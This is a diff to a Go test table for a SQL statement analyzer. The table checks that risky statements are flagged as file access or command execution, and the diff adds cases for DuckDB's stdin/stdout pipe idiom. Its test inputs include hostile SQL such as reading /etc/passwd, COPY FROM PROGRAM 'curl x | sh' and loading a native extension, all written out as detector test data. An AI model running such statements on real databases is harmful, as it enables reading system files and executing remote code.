@@ -60,6 +60,8 @@ func TestFindings(t *testing.T) {
 		{"SELECT pg_read_file('/etc/passwd')", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "pg_read_file"},
 		{"COPY t TO '/tmp/out.csv'", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "copy to a server file"},
 		{"COPY t TO STDOUT", sqlstmt.Postgres, nil, []string{sqlstmt.FindingFileAccess}, "copy to the client"},
+		{"COPY (FROM read_csv('/dev/stdin')) TO '/dev/stdout' WITH (FORMAT CSV)", sqlstmt.Generic, nil, []string{sqlstmt.FindingFileAccess}, "duckdb's pipe idiom: standard streams are not files"},
+		{"COPY t TO '/dev/stdout.bak'", sqlstmt.Postgres, []string{sqlstmt.FindingFileAccess}, nil, "a file next to a stream name is still a file"},
 		{"COPY t FROM PROGRAM 'curl x | sh'", sqlstmt.Postgres, []string{sqlstmt.FindingCommandExec}, nil, "copy from program"},
 		{"ATTACH DATABASE '/home/u/other.db' AS o", sqlstmt.SQLite, []string{sqlstmt.FindingFileAccess}, nil, "attach"},
 		{"SELECT load_extension('/tmp/x.so')", sqlstmt.SQLite, []string{sqlstmt.FindingCommandExec}, nil, "native code"},
